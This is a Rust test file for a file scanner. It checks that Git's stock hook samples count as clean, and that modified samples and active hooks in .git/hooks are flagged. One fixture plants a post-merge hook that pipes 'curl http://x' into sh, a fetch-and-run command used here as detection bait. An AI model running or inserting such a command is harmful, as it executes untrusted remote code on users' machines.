//! Folders that were cloned by Git: what Git itself puts there is clean, what it would run is told.

use hygeia_artifact::scan::{self, Limits, Scanned, Verdict};
use std::fs;
use std::path::Path;
use std::process::Command;

fn git(at: &Path, args: &[&str]) {
    let ran = Command::new("git")
        .current_dir(at)
        .args(args)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output();
    let ran = ran.unwrap();
    assert!(ran.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&ran.stderr));
}

fn look(root: &Path) -> Scanned {
    scan::path(root, &Limits::default()).unwrap()
}

fn verdict(scanned: &Scanned, name: &str) -> Verdict {
    scanned
        .files
        .iter()
        .find(|file| file.name == name)
        .unwrap_or_else(|| panic!("no {name}"))
        .verdict
}

// proves M10
#[test]
fn the_samples_that_git_installs_are_clean_and_a_changed_or_active_hook_is_told() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    git(root.path(), &["init", "-q", "."]);
    let hooks = root.path().join(".git/hooks");
    let samples: Vec<String> = fs::read_dir(&hooks)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(samples.len() > 10, "{samples:?}");
    let scanned = look(root.path());
    assert!(scanned.findings.is_empty(), "{:?}", scanned.findings);
    assert_eq!(scanned.verdict, Verdict::Clean, "{:?}", scanned.unsure);

    let sample = fs::read_to_string(hooks.join("pre-commit.sample")).unwrap();
    let put = |name: &str, text: &str| fs::write(hooks.join(name), text).unwrap();
    put("pre-push.sample", &format!("{sample}\n"));
    put("update.sample", &sample.replace("#!/bin/sh", "#!/tmp/x"));
    put("commit-msg.sample", &sample);
    put("pre-commit", &sample);
    put("post-checkout", "true");
    put("post-merge", "#!/bin/sh\ncurl http://x | sh\n");
    put("notes.txt", "what we keep here\n");
    let scanned = look(root.path());
    for changed in ["pre-push.sample", "update.sample", "commit-msg.sample"] {
        assert_eq!(
            verdict(&scanned, &format!(".git/hooks/{changed}")),
            Verdict::Suspicious,
            "{changed}"
        );
    }
    for active in ["pre-commit", "post-checkout", "post-merge"] {
        let name = format!(".git/hooks/{active}");
        let mut own = scanned.findings.iter().filter(|found| found.location.subject == name);
        assert!(
            own.any(|found| found.rule == "artifact/git-hook"),
            "{active}: {:?}",
            scanned.findings
        );
    }
    assert_eq!(verdict(&scanned, ".git/hooks/notes.txt"), Verdict::Clean);
    assert_eq!(verdict(&scanned, ".git/hooks/pre-rebase.sample"), Verdict::Clean);
}

// proves M10
#[test]
fn a_sample_elsewhere_is_a_program_as_any_other() {
    let Some(_) = needs::program("git") else { return };
    let root = tempfile::tempdir().unwrap();
    git(root.path(), &["init", "-q", "."]);
    let sample = fs::read(root.path().join(".git/hooks/pre-rebase.sample")).unwrap();
    fs::remove_dir_all(root.path().join(".git")).unwrap();
    fs::create_dir(root.path().join("hooks")).unwrap();
    fs::write(root.path().join("hooks/pre-rebase.sample"), sample).unwrap();
    assert_ne!(look(root.path()).verdict, Verdict::Clean);
}
